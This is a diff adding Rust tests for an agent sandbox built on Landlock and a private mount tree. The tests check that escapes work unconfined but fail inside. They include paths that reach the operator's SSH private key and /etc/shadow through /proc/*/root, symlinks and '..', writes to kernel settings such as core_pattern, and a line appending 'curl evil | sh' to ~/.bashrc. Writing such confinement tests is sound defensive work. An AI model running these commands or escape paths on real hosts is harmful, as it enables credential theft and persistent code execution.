@@ -1,0 +1,389 @@
+//! What the mount tree and Landlock hold: reading, writing and getting out by names.
+
+use std::{
+    os::unix::fs::{MetadataExt, symlink},
+    path::Path,
+};
+
+use crate::{tools, world::World};
+
+/// Words for `attempt`, one for each path.
+fn words(verb: &str, paths: &[impl AsRef<Path>]) -> Vec<String> {
+    paths.iter().map(|path| format!("{verb}={}", path.as_ref().display())).collect()
+}
+
+impl World {
+    /// These work unconfined, and inside each ends with one of these errnos.
+    fn works_only_outside(&self, words: &[String], errnos: &[&str]) {
+        for (word, outcome) in self.attempt_outside(words) {
+            assert_eq!(outcome, "worked", "{word} unconfined");
+        }
+        self.refused_inside(words, errnos);
+    }
+
+    fn refused_inside(&self, words: &[String], errnos: &[&str]) {
+        for (word, outcome) in self.attempt_inside(words) {
+            assert!(errnos.contains(&outcome.as_str()), "{word} inside: {outcome}");
+        }
+    }
+}
+
+#[test]
+fn reads_the_operators_private_key() {
+    let Some(world) = World::plain() else { return };
+    let key = world.home().join(".ssh/id_ed25519");
+    let shown = key.display();
+    let paths = [
+        format!("{shown}"),
+        "../home/.ssh/id_ed25519".into(),
+        format!("/proc/self/root{shown}"),
+        format!("/proc/thread-self/root{shown}"),
+        "/proc/self/cwd/../home/.ssh/id_ed25519".into(),
+        format!("/usr/../{shown}"),
+    ];
+    world.works_only_outside(&words("read", &paths), &["ENOENT"]);
+    world.works_only_outside(&words("open-path", &paths), &["ENOENT"]);
+    world.verify();
+}
+
+#[test]
+fn reads_the_operators_private_key_through_init() {
+    let Some(world) = World::plain() else { return };
+    let key = world.home().join(".ssh/id_ed25519");
+    // Unconfined, a process of the same user stands for init.
+    let script = format!("sleep 60 & cat /proc/$!/root{}; kill $!", key.display());
+    assert_eq!(world.outside_sh(&script).good(), "the operator's private key");
+    let paths = [
+        format!("/proc/1/root{}", key.display()),
+        "/proc/1/cwd/etc/shadow".into(),
+        "/proc/1/root/etc/shadow".into(),
+        "/proc/1/fd/3".into(),
+    ];
+    world.refused_inside(&words("read", &paths), &["EACCES"]);
+    world.refused_inside(
+        &words("list", &["/proc/1/root", "/proc/1/cwd", "/proc/1/fd"]),
+        &["EACCES"],
+    );
+}
+
+#[test]
+fn reads_a_granted_file() {
+    let Some(world) = World::new("filesystem: {read: [~/notes.txt]}") else { return };
+    let ran = world.inside_sh("cat ~/notes.txt");
+    assert_eq!(ran.good(), "the operator's notes");
+}
+
+#[test]
+fn writes_the_operators_shell_start_up() {
+    let Some(world) = World::plain() else { return };
+    let script = "echo 'curl evil | sh' >>~/.bashrc && tail -n 1 ~/.bashrc";
+    assert_eq!(world.outside_sh(script).good(), "curl evil | sh");
+    world.write("home/.bashrc", "# the operator's\n");
+    // The home inside is private, so it may be written; it is just not the operator's.
+    assert_eq!(world.inside_sh(script).good(), "curl evil | sh");
+    assert_eq!(world.read("home/.bashrc"), "# the operator's\n");
+}
+
+#[test]
+fn leaves_the_workspace_through_a_link() {
+    let Some(world) = World::plain() else { return };
+    let ssh = world.home().join(".ssh");
+    symlink(&ssh, world.workspace().join("keys")).unwrap();
+    symlink("../home/.ssh/id_ed25519", world.workspace().join("key")).unwrap();
+    symlink("/", world.workspace().join("root")).unwrap();
+    symlink("/proc/self/root", world.workspace().join("magic")).unwrap();
+    let shown = ssh.display();
+    let paths = [
+        "keys/id_ed25519".to_owned(),
+        "key".into(),
+        format!("root{shown}/id_ed25519"),
+        format!("magic{shown}/id_ed25519"),
+    ];
+    world.works_only_outside(&words("read", &paths), &["ENOENT"]);
+    world.refused_inside(&words("list", &["keys"]), &["ENOENT"]);
+    world.refused_inside(&words("list", &["root", "magic"]), &["EACCES"]);
+    // A link that is made inside leads no further.
+    let ran = world.inside_sh(&format!("ln -s {shown} own && cat own/id_ed25519"));
+    assert!(ran.err.contains("No such file"), "{ran}");
+}
+
+#[test]
+fn writes_through_a_link_in_the_workspace() {
+    let Some(world) = World::plain() else { return };
+    world.write("elsewhere/file", "as it was\n");
+    symlink("../elsewhere/file", world.workspace().join("link")).unwrap();
+    symlink("../elsewhere/fresh", world.workspace().join("dangling")).unwrap();
+    world.works_only_outside(&words("write", &["link"]), &["ENOENT"]);
+    world.outside_sh("echo evil >dangling").good();
+    std::fs::remove_file(world.at("elsewhere/fresh")).unwrap();
+    let ran = world.inside_sh("echo evil >dangling");
+    assert!(ran.err.contains("nonexistent") || ran.err.contains("No such file"), "{ran}");
+    assert_eq!(world.read("elsewhere/file"), "as it was\nx");
+    assert!(!world.at("elsewhere/fresh").exists());
+}
+
+#[test]
+fn changes_what_is_granted_for_reading() {
+    let Some(world) = World::new("filesystem: {read: [../shared]}") else { return };
+    let verbs = [
+        "write",
+        "open-write",
+        "truncate",
+        "open-truncate",
+        "chmod",
+        "chmod-by-fd",
+        "chown",
+        "utimes",
+        "setxattr",
+        "flags",
+        "unlink",
+    ];
+    let paths: Vec<_> = verbs.iter().map(|verb| world.at(format!("shared/{verb}"))).collect();
+    let mut all = Vec::new();
+    for (verb, path) in verbs.iter().zip(&paths) {
+        world.write(path, "as it was\n");
+        all.extend(words(verb, &[path]));
+    }
+    std::fs::create_dir(world.at("shared/rmdir")).unwrap();
+    all.extend(words("rmdir", &[world.at("shared/rmdir")]));
+    all.extend(words("mkdir", &[world.at("shared/fresh-folder")]));
+    all.extend(words("create", &[world.at("shared/fresh-file")]));
+    let before: Vec<_> = paths.iter().map(|path| path.metadata().unwrap()).collect();
+    for (word, outcome) in world.attempt_inside(&all) {
+        // FS_IOC_SETFLAGS is refused by the system call filter.
+        let expected: &[&str] =
+            if word.starts_with("flags") { &["EPERM", "ENOTTY"] } else { &["EROFS", "EACCES"] };
+        assert!(expected.contains(&outcome.as_str()), "{word} inside: {outcome}");
+    }
+    for (path, before) in paths.iter().zip(before) {
+        let after = path.metadata().unwrap();
+        let of = |found: &std::fs::Metadata| {
+            (found.size(), found.mode(), found.mtime(), found.mtime_nsec(), found.ctime_nsec())
+        };
+        assert_eq!(of(&after), of(&before), "{}", path.display());
+    }
+    assert!(!world.at("shared/fresh-file").exists());
+    for (word, outcome) in world.attempt_outside(&all) {
+        // Not each file system has these two.
+        let optional = word.starts_with("flags") || word.starts_with("setxattr");
+        let absent = optional && ["EOPNOTSUPP", "ENOTTY"].contains(&outcome.as_str());
+        assert!(outcome == "worked" || absent, "{word} unconfined: {outcome}");
+    }
+}
+
+#[test]
+fn changes_what_is_granted_for_writing() {
+    let Some(world) = World::new("filesystem: {write: [../shared]}") else { return };
+    world.write("shared/file", "as it was\n");
+    let shared = world.at("shared");
+    let ran = world.inside_sh(&format!(
+        "cd {} && echo more >>file && chmod 600 file && mkdir sub && mv file sub/ && ln sub/file twin \
+         && touch -d 2020-01-01 twin && rm twin && truncate -s 4 sub/file",
+        shared.display()
+    ));
+    ran.good();
+    assert_eq!(world.read("shared/sub/file"), "as i");
+    let owner = std::fs::metadata(&shared).unwrap();
+    let made = std::fs::metadata(world.at("shared/sub")).unwrap();
+    assert_eq!((made.uid(), made.gid()), (owner.uid(), owner.gid()));
+}
+
+/// What the sandbox of root makes in the workspace belongs to the workspace's owner, whoever that is.
+#[test]
+fn leaves_files_of_another_owner_in_the_workspace() {
+    let Some(world) = World::plain() else { return };
+    let workspace = world.workspace();
+    if tools::is_root() {
+        rustix::fs::chown(
+            &workspace,
+            Some(rustix::fs::Uid::from_raw(4711)),
+            Some(rustix::fs::Gid::from_raw(4712)),
+        )
+        .unwrap();
+    }
+    world.inside_sh("echo x >file && mkdir folder && ln -s file link && mkfifo pipe").good();
+    let owner = workspace.metadata().unwrap();
+    for name in ["file", "folder", "link", "pipe"] {
+        let found = workspace.join(name).symlink_metadata().unwrap();
+        assert_eq!((found.uid(), found.gid()), (owner.uid(), owner.gid()), "{name}");
+    }
+}
+
+#[test]
+fn names_the_neighbour_of_a_granted_folder() {
+    let Some(world) = World::new("filesystem: {read: [../shared/app]}") else { return };
+    world.write("shared/app/file", "public\n");
+    world.write("shared/app-secret/file", "secret\n");
+    let word = words("read", &[world.at("shared/app-secret/file")]);
+    world.works_only_outside(&word, &["ENOENT"]);
+    let ran = world.inside_sh(&format!("cat {}", world.at("shared/app/file").display()));
+    assert_eq!(ran.good(), "public");
+}
+
+/// Writing to the host's own devices is what they are for; changing their times or rights is not.
+#[test]
+fn touches_the_hosts_devices() {
+    let Some(world) = World::plain() else { return };
+    let words = words("utimes", &["/dev/null", "/dev/full", "/dev/tty"]);
+    let times = || {
+        let of = |path: &str| Path::new(path).metadata().unwrap().mtime_nsec();
+        ["/dev/null", "/dev/full", "/dev/tty"].map(of)
+    };
+    let untouched = times();
+    world.works_only_outside(&words, &["EROFS"]);
+    assert_ne!(times(), untouched);
+    let touched = times();
+    world.refused_inside(&words, &["EROFS"]);
+    assert_eq!(times(), touched);
+    world.inside_sh("echo x >/dev/null; head -c 1 /dev/zero >/dev/null").good();
+}
+
+#[test]
+fn finds_devices_of_the_host() {
+    let Some(world) = World::plain() else { return };
+    let outside = world.outside_sh("ls /dev").good().lines().count();
+    let inside = world.inside_python("import os; print(*sorted(os.listdir('/dev/pts')))");
+    assert_eq!(inside.good(), "ptmx");
+    let missing: Vec<String> =
+        ["/dev/mem", "/dev/kmsg", "/dev/fuse", "/dev/net/tun", "/dev/kvm", "/dev/loop-control"]
+            .into_iter()
+            .filter(|path| Path::new(path).exists())
+            .map(|path| format!("open-path={path}"))
+            .collect();
+    assert!(outside > 12 && !missing.is_empty());
+    world.works_only_outside(&missing, &["ENOENT"]);
+}
+
+/// Only root can put a device node where the agent may look.
+#[test]
+fn opens_a_device_node_in_the_workspace() {
+    let Some(world) = World::plain() else { return };
+    if !tools::is_root() {
+        println!("not for an ordinary user: making a device node");
+        return;
+    }
+    world.outside_sh("mknod node c 1 5 && chmod 666 node").good();
+    world.works_only_outside(&words("read", &["node"]), &["EACCES"]);
+}
+
+#[test]
+fn reads_kernel_memory_and_symbols() {
+    let Some(world) = World::plain() else { return };
+    let readable: Vec<String> =
+        ["/proc/kallsyms", "/proc/modules", "/proc/key-users", "/proc/keys", "/proc/timer_list"]
+            .into_iter()
+            .filter(|path| std::fs::File::open(path).is_ok())
+            .map(|path| format!("open={path}"))
+            .collect();
+    assert!(!readable.is_empty());
+    world.works_only_outside(&readable, &["EACCES", "ENOENT"]);
+    let never = [
+        "/proc/kcore",
+        "/proc/kmsg",
+        "/proc/sysrq-trigger",
+        "/proc/self/pagemap",
+        "/proc/kpagecount",
+        "/proc/config.gz",
+        "/proc/sched_debug",
+    ];
+    let outcomes = world.attempt_inside(&words("open", &never));
+    for (word, outcome) in outcomes {
+        // The page map of oneself may be opened; the kernel shows no frame numbers in it.
+        let may = word == "open=/proc/self/pagemap" && outcome == "worked";
+        assert!(may || ["EACCES", "ENOENT"].contains(&outcome.as_str()), "{word}: {outcome}");
+    }
+    let frames = world.inside_python(
+        "import struct\n\
+         page = bytearray(b'x' * 8192)\n\
+         import ctypes\n\
+         at = ctypes.addressof((ctypes.c_char * 8192).from_buffer(page)) // 4096\n\
+         with open('/proc/self/pagemap', 'rb') as map:\n\
+         \x20   map.seek(8 * at)\n\
+         \x20   print(struct.unpack('Q', map.read(8))[0] & ((1 << 55) - 1))",
+    );
+    assert_eq!(frames.good(), "0");
+}
+
+#[test]
+fn writes_kernel_settings() {
+    let Some(world) = World::plain() else { return };
+    let paths = [
+        "/proc/sys/kernel/core_pattern",
+        "/proc/sys/kernel/hostname",
+        "/proc/sys/kernel/modprobe",
+        "/proc/sys/vm/drop_caches",
+        "/proc/sys/net/ipv4/ip_forward",
+        "/proc/sys/user/max_user_namespaces",
+        "/proc/sysrq-trigger",
+        "/proc/self/oom_score_adj",
+        "/proc/self/uid_map",
+        "/proc/self/mem",
+        "/proc/self/attr/current",
+        "/proc/irq/default_smp_affinity",
+    ];
+    let words = words("open-write", &paths);
+    world.refused_inside(&words, &["EROFS", "EACCES", "ENOENT"]);
+    // That such a file can be written at all is shown by two that are the caller's own.
+    let own = ["open-write=/proc/self/oom_score_adj", "open-write=/proc/self/mem"];
+    for (word, outcome) in world.attempt_outside(&own) {
+        assert_eq!(outcome, "worked", "{word} unconfined");
+    }
+    let inside = world.inside_sh("cat /proc/sys/user/max_user_namespaces");
+    assert_eq!(inside.good(), "0");
+}
+
+#[test]
+fn looks_into_sysfs_and_cgroups() {
+    let Some(world) = World::plain() else { return };
+    world.works_only_outside(&words("list", &["/sys", "/sys/kernel"]), &["ENOENT"]);
+    world.refused_inside(
+        &words("list", &["/sys/kernel/debug", "/sys/firmware", "/sys/fs/cgroup"]),
+        &["ENOENT"],
+    );
+}
+
+#[test]
+fn reads_the_hosts_accounts() {
+    let Some(world) = World::plain() else { return };
+    let accounts = world.outside_sh("cat /etc/passwd").good().lines().count();
+    assert!(accounts > 3);
+    let inside = world.inside_sh("cut -d: -f1 /etc/passwd");
+    let names: Vec<&str> = inside.good().lines().collect();
+    assert_eq!((names[0], names.len()), ("root", 3), "{names:?}");
+    world.refused_inside(&words("read", &["/etc/shadow", "/etc/machine-id"]), &["ENOENT"]);
+}
+
+/// Mount points and their sources tell where things are on the host: what is granted, and no more.
+#[test]
+fn learns_of_the_hosts_mounts() {
+    let Some(world) = World::new("filesystem: {read: [../shared]}") else { return };
+    world.write("shared/file", "");
+    let inside = world.inside_sh("cat /proc/self/mountinfo");
+    let granted: Vec<String> = {
+        let text = world.inside_sh("cat /run/palisade/policy.md");
+        text.good()
+            .lines()
+            .filter_map(|line| line.strip_prefix("- `")?.strip_suffix('`').map(str::to_owned))
+            .collect()
+    };
+    let private = [
+        "/",
+        "/tmp",
+        "/var/tmp",
+        "/proc",
+        "/dev",
+        "/run/palisade",
+        "/etc",
+        world.home().to_str().unwrap(),
+    ]
+    .map(str::to_owned);
+    for line in inside.good().lines() {
+        let point = line.split(' ').nth(4).unwrap();
+        let known = |of: &String| point == of || of == "/proc" && point.starts_with("/proc/");
+        let device = point.starts_with("/dev/");
+        assert!(granted.iter().chain(&private).any(known) || device, "{line}");
+        for secret in ["home/.ssh", "config", "state"] {
+            assert!(!line.contains(&world.at(secret).display().to_string()), "{line}");
+        }
+    }
+}
